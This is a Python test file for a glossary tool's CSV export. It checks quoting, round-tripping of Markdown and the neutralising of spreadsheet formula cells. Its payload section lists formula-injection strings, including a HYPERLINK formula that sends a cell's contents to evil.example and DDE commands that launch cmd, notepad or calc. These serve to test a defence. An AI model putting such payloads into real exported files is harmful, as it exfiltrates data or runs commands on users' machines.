"""CSV export: one row per definition, RFC 4180 quoting that keeps Markdown intact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from glossweave.core.pipeline import build_glossary
from glossweave.core.model import Block, BlockKind, Entry, Glossary, Header, Layout, NameSource, RawEntry, Report, Sense, Source, Term
from glossweave.export.csvexport import COLUMNS, LIST_SEPARATOR, neutralised, write_csv

HERE = Path(__file__).parent
SMALL = HERE / "fixtures" / "exports"
CORPUS = HERE.parent / "docs" / "corpus"


@pytest.fixture(scope="module", params=[SMALL, CORPUS], ids=["small", "corpus"])
def glossary(request):
    return build_glossary(request.param)


def read_back(glossary, tmp_path) -> list[dict[str, str]]:
    path = write_csv(glossary, tmp_path / "glossary.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        assert next(reader) == COLUMNS
        return [dict(zip(COLUMNS, row, strict=True)) for row in reader]


def test_one_row_per_definition_in_term_and_sense_order(glossary, tmp_path):
    rows = read_back(glossary, tmp_path)
    expected = [
        (term.slug, str(n), str(i))
        for term in glossary.terms
        for n, sense in enumerate(term.senses, start=1)
        for i in range(1, len(sense.others) + 2)
    ]
    assert [(row["id"], row["sense"], row["definition"]) for row in rows] == expected


def test_markdown_with_newlines_quotes_and_commas_survives_exactly(glossary, tmp_path):
    rows = read_back(glossary, tmp_path)
    senses = [(term, definition) for term in glossary.terms for definition in term.definitions]
    for row, (term, sense) in zip(rows, senses, strict=True):
        assert row["definition_markdown"] == sense.markdown
        assert row["name"] == term.name
        assert row["category"] == sense.category
        assert row["sources"].split(LIST_SEPARATOR) == [str(source) for source in sense.sources]


def test_list_columns_split_back_into_the_aliases_and_keywords(glossary, tmp_path):
    rows = read_back(glossary, tmp_path)
    by_id = {term.slug: term for term in glossary.terms}
    for row in rows:
        term = by_id[row["id"]]
        for column, names in (("aliases", term.aliases), ("keywords", term.keywords), ("related", term.related)):
            assert not any(LIST_SEPARATOR in name for name in names)
            assert (row[column].split(LIST_SEPARATOR) if row[column] else []) == names


def test_small_glossary_fields_need_quoting_and_get_it(tmp_path):
    text = write_csv(build_glossary(SMALL), tmp_path / "g.csv").read_text(encoding="utf-8")
    # the multi-line Markdown of alpha-beta is one quoted field, its quotes doubled
    assert '"**Alpha Beta** is a method, with ""quotes"" and commas' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    alpha = next(row for row in rows if row[0] == "alpha-beta")
    assert "\n- **Point**: costs \\$5" in alpha[COLUMNS.index("definition_markdown")]
    assert alpha[COLUMNS.index("links")] == "gamma-delta"
    # "alpha b" is not a form of the name, "ab" is its initials
    assert (alpha[COLUMNS.index("aliases")], alpha[COLUMNS.index("keywords")]) == ("AB", "alpha b")


# --- cells a spreadsheet would run (issue 10 §5) ----------------------------------------

PAYLOADS = {
    "equals": "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "plus": "+1+cmd|' /C notepad'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "at": "@SUM(1+1)*cmd|' /C notepad'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "spaces-first": "   =1+1",
    "full-width-equals": "\uff1d1+1",
    "full-width-at": "\uff20SUM(1)",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
    assert neutralised(payload) == "'" + payload


@pytest.mark.parametrize("text", ["GPU", "a - b", "x = 1", "email@example.org", "'quoted'", "", " leading space"])
def test_other_cells_are_left_as_they_are(text):
    assert neutralised(text) == text


def test_every_column_of_a_hostile_glossary_is_neutralised(tmp_path):
    source = Source("x.txt", 1)
    raw = RawEntry(source, "header", ["@SUM(A1:A9)"], 2, Layout.LINES)
    entry = Entry(raw, Header(["=cmd", "=category"], "spaced"), "=cmd", NameSource.BOLD, [Block(BlockKind.PARAGRAPH, ["@SUM(A1:A9)"])],
                  "-2+3 summary")
    hostile = Term("hostile", "=cmd|' /C calc'!A0", ["+alias", "@alias"], [Sense("=category", entry, [source])], keywords=["-keyword"])
    path = write_csv(Glossary([hostile], Report()), tmp_path / "g.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        (_, row) = list(csv.reader(handle))
    cells = dict(zip(COLUMNS, row, strict=True))
    assert cells["name"] == "'=cmd|' /C calc'!A0"
    assert cells["aliases"] == "'+alias; @alias" and cells["keywords"] == "'-keyword"
    assert (cells["category"], cells["summary"], cells["definition_markdown"]) == ("'=category", "'-2+3 summary", "'@SUM(A1:A9)")
    assert not [value for value in row if value and value[0] in "=+-@\t\r"]
